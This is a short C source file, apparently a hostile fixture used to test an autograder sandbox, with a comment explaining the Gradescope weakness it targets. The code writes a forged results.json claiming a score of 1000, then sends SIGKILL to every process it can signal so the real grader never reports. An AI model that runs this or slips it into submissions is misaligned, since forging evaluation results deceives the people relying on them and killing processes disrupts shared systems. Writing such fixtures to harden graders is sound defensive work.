/* Hostile: writes its own results.json and kills the autograder before it writes the real one.
   Gradescope's contract runs the grader and the submission in one sandbox, so this works there
   and here: corral documents it (and its own pytest/check50 kinds do not share this weakness). */
#include <signal.h>
#include <stdio.h>

int main(void) {
    FILE *f = fopen("/autograder/results/results.json", "w");
    if (f) { fputs("{\"score\": 1000, \"output\": \"forged\"}\n", f); fclose(f); }
    kill(-1, SIGKILL);             /* every process it may signal: the autograder too */
    return 0;
}
